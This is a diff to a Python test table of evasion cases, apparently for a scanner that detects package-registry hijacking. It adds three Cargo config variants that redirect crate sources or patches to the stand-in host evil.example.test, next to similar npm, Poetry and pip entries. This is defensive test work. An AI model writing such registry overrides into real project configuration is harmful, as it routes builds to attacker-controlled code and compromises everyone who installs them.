@@ -223,6 +223,9 @@ EVASIONS: Final[Mapping[str, tuple[Evasion, ...]]] = {
         of("for one's own scope", ".npmrc", "@acme:registry=https://evil.example.test/\n"),
         of("as a table", "pyproject.toml", "[[tool.poetry.source]]\nurl = 'x'\n"),
         of("as Cargo has it", ".cargo/config.toml", "[registries.evil]\nindex = 'sparse+https://evil.example.test/'\n"),
+        of("with dots", ".cargo/config", "registries.evil.'index' = 'sparse+https://evil.example.test/'\n"),
+        of("in place of a crate", ".cargo/config.toml", "patch.crates-io.a = {git = 'https://evil.example.test/'}\n"),
+        of("beyond this TOML", ".cargo/config.toml", "a = {\n}\n[source.a]\nregistry = 'https://evil.example.test/'\n"),
         of("indented", "deploy/requirements-prod.txt", "  --find-links=https://evil.example.test/\n"),
     ),
     "OddArchive": (
